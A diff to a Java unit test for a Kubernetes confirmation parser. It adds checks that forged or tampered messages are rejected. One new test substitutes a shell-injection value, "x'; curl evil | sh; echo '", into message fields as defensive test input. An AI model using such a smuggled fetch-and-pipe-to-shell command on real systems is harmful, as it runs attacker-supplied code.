@@ -68,6 +68,7 @@ class KubectlConfirmationTest {
         confirmation(message(ConfirmationType.INITIALIZED, living, enabled())).orElseThrow());
     assertThat(read.confirmsInitialized(UID, Optional.of(ENABLED))).isTrue();
     assertThat(read.confirmsInitialized(UID, Optional.of(ENABLED.plusMillis(1)))).isFalse();
+    assertThat(read.confirmsInitialized("another", Optional.of(ENABLED))).isFalse();
     assertThat(read.cleanedUp()).isEmpty();
   }
 
@@ -99,5 +100,14 @@ class KubectlConfirmationTest {
         .replace("\"name\":\"fms.amazonaws.com\"", "\"name\":\"" + name + "\"");
     assertThat(forged).contains(name);
     assertThat(confirmation(forged)).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {UID, "2026-03-01T09:00:00Z", "cleanedUp", "deletionTimestamp"})
+  void noPartOfACommandCanBeForged(String part) {
+    String message = message(
+        ConfirmationType.CLEANED_UP, declared("fms.amazonaws.com", Optional.of(DELETED)), enabled());
+    assertThat(confirmation(message)).isPresent();
+    assertThat(confirmation(message.replace("\"" + part + "\"", "\"x'; curl evil | sh; echo '\""))).isEmpty();
   }
 }
